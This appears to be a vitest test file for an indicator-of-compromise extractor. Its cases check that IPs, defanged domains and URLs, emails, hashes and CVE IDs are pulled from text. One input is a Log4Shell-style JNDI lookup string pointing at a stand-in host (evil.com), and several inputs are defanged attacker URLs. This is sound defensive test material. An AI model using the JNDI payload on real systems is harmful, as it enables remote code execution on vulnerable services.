import { describe, expect, it } from 'vitest'
import { extractFromText } from './extract.ts'

const md5 = '9d9af54a1f529906a03112636f642478'
const sha256 = '9f2c4d1e6b8a70355c1de84fa2b90c7731d6ea584f0b92c8e17d35a6407bc9f2'

function values(text: string): string[] {
  return extractFromText(text).map(({ value }) => value)
}

describe('observables in text', () => {
  it.each<[text: string, ...found: string[]]>([
    ['from 203.0.113.7, to 198.51.100.9.', '203.0.113.7', '198.51.100.9'],
    ['203.0.113.7:443 (src=1.2.3.4)', '203.0.113.7', '1.2.3.4'],
    ['10.0.0.1-10.0.0.9', '10.0.0.1', '10.0.0.9'],
    ['inside:10.1.1.1/443 user@10.0.0.2', '10.1.1.1', '10.0.0.2'],
    ['[2001:DB8:0:0::1]:80 or ::1, fe80::1%eth0', '2001:db8::1', '::1', 'fe80::1'],
    ['1.2.3[.]4 and 1(.)2{.}3[dot]4', '1.2.3.4', '1.2.3.4'],
    ['evil.com. EVIL.COM; <evil.com> "evil.com" evil.com:8080 evil.com/a.b.org', ...Array(6).fill('evil.com')],
    [
      'a.b.evil.co.uk *.evil.com _dmarc.evil.com _evil.com_',
      'a.b.evil.co.uk',
      'evil.com',
      '_dmarc.evil.com',
      'evil.com',
    ],
    ['müller.de пример.рф', 'xn--mller-kva.de', 'xn--e1afmkfd.xn--p1ai'],
    ['请访问evil.com下载', 'evil.com'],
    ['evil[.]com evil(dot)com', 'evil.com', 'evil.com'],
    ['www.allegro.pl script[.]pl payload[.]zip', 'www.allegro.pl', 'script.pl', 'payload.zip'],
    ['Bob <Bob@Evil.com>, bob[at]evil[.]com mailto:a+b@evil.com', 'bob@evil.com', 'bob@evil.com', 'a+b@evil.com'],
    [`MD5=${md5.toUpperCase()},SHA256=${sha256}`, md5, sha256],
    [`sha256:${sha256} /tmp/${md5}/x`, sha256, md5],
    ['CVE-2024-3094, cve-2021-44228.', 'CVE-2024-3094', 'CVE-2021-44228'],
    ['hxxps[:]//Evil[.]com/a?b=1, then', 'https://evil.com/a?b=1'],
    ['hxxp[://]evil[.]com/a', 'http://evil.com/a'],
    ['(see http://evil.com/x_(y).) [it](https://a.com/p)', 'http://evil.com/x_(y)', 'https://a.com/p'],
    ['http://a.com/,http://b.com/', 'http://a.com/', 'http://b.com/'],
    ['http://a.com/?u=http://b.com/x', 'http://a.com/?u=http://b.com/x'],
    ["<a href='http://evil.com/a'>x</a>", 'http://evil.com/a'],
    [`\${jndi:ldap://evil.com:1389/a}`, 'ldap://evil.com:1389/a', 'evil.com'],
    ['ldap://198.51.100.200:1389/a', 'ldap://198.51.100.200:1389/a', '198.51.100.200'],
    ['rmi://u@[2001:db8::5]:1099/x smb://files/x', 'rmi://u@[2001:db8::5]:1099/x', '2001:db8::5', 'smb://files/x'],
    ['ftp://198.51.100.200/a', 'ftp://198.51.100.200/a'],
    ['{"url":"http://203.0.113.7:80/"}', 'http://203.0.113.7/'],
    ['http://u:p@[2001:db8::5]:8080/x', 'http://u:p@[2001:db8::5]:8080/x'],
  ])('%s', (text, ...found) => {
    expect(values(text)).toEqual(found)
  })

  it.each([
    '',
    'invoice.pdf run.exe setup.js a.sh x.py README.md lib.so archive.zip',
    'factura_0423.pdf.exe test.utils.py kernel32.dll',
    'C:\\Users\\bob\\evil.com \\\\files\\share\\evil.com /var/www/evil.com/x',
    '1.2.3.4.5 1.2.3 999.1.1.1 01.2.3.4 v1.2.3.4 version 10.0.0.1 Chrome/120.0.0.0',
    '10.0.0.0/8 2001:db8::/32',
    'std::vector a::b 12:34:56 00:11:22:33:44:55',
    'host.name rule.id kibana.alert.rule.name System.Security com.example.app done.It e.g. i.e. U.S.',
    '2026-03-04T10:00:00.310000+0000 01/02/2026',
    '12345678901234567890123456789012 deadbeef abcdefabcdefabcdefabcdefabcdefab',
    '3f1c2a52-33c4-4a4e-8a56-1b5e6b0f7a11',
    '@evil bob@ a@b look (at) this',
    'javascript://x nonsense://evil http:// http://%s/ http://1.2.3.4.5/',
  ])('nothing in %j', text => {
    expect(values(text)).toEqual([])
  })

  it('says of what type each is, and where it stands in the text as given', () => {
    const text = `get hxxp[:]//evil[.]com/a from 1[.]2.3.4, write to bob[at]evil[.]com about ${md5} on evil[.]com!`
    const found = extractFromText(text)
    expect(found.map(({ type, start, end }) => [type, text.slice(start, end)])).toEqual([
      ['url', 'hxxp[:]//evil[.]com/a'],
      ['ip', '1[.]2.3.4'],
      ['mail', 'bob[at]evil[.]com'],
      ['hash', md5],
      ['domain', 'evil[.]com'],
    ])
  })
})
